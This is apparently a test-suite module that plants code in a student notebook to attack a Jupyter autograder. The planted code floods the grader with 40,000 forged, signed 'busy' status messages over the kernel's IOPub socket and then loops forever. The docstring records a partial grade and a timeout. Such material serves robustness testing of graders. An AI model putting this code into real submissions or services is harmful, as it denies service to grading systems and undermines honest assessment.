"""Threads of the kernel send signed messages to the grader as fast as they can, to keep it busy.

graded: 30
note: did not finish within {CELL} seconds
"""

from __future__ import annotations

from pathlib import Path

from attacks.tools import insert, save
from nbformat import NotebookNode

SOURCE = """
import threading

kernel = get_ipython().kernel
parent = kernel.get_parent("shell")


def flood():
    # Prepared, so that sending is quicker than reading.
    other = {**parent, "header": {**parent["header"], "msg_id": "another"}}
    session = kernel.session
    frames = []
    for number in range(40_000):
        message = session.msg("status", {"execution_state": "busy"}, parent=other)
        frames.append(session.serialize(message, ident=b"status"))
    for parts in frames:
        kernel.iopub_thread.socket.send_multipart(parts)


flood()
while True:
    pass
"""


def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
    insert(right, SOURCE, before="zero_pad")
    save(folder, right)
